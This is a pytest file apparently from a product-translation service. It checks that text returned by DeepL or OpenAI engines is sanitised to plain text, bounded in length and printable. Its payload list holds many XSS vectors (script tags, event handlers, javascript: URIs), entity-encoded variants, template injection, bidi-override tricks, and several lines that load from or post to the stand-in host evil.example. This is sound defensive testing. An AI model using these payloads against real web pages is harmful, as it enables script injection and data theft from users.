"""What an engine says is never more than plain text (SEC-25)."""

import pytest

from pavilion.translation.gateway import translate
from pavilion.translation.plaintext import MAX_LENGTH, has_markup

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>tumbler</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<form action=//evil.example><input name=q></form>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>@import '//evil.example'</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<x onclick=alert(1)>tumbler</x>",
    "<?xml version='1.0'?><x/>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&amp;lt;script&amp;gt;alert(1)",
    "javascript:alert(1)",
    "JaVaScRiPt :alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "{{7*7}} tumbler",
    "tumbler \u202egnp.exe\u202c \u2066x\u2069",
    "Va\x00cuum\x1b[31m tumb\x08ler \ufeff\u200b",
    "x" * 1_000_000,
]
assert len(PAYLOADS) >= 40


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
@pytest.mark.parametrize("engine", ["deepl", "openai"])
def test_it_stays_plain_text_and_is_not_public(engines, settings, engine, payload):
    settings.TRANSLATION_ENGINES = [engine]
    getattr(engines, engine).answer = lambda text: payload
    [done] = translate(["진공 텀블러 보온병"], source="ko", target="en", purpose="product")
    assert not has_markup(done.text)
    assert len(done.text) <= MAX_LENGTH
    assert done.text.isprintable()
    assert done.is_draft or done.text.lower().startswith(("tumbler", "vacuum tumbler"))
    assert "\u202e" not in done.text
    assert "\u2066" not in done.text
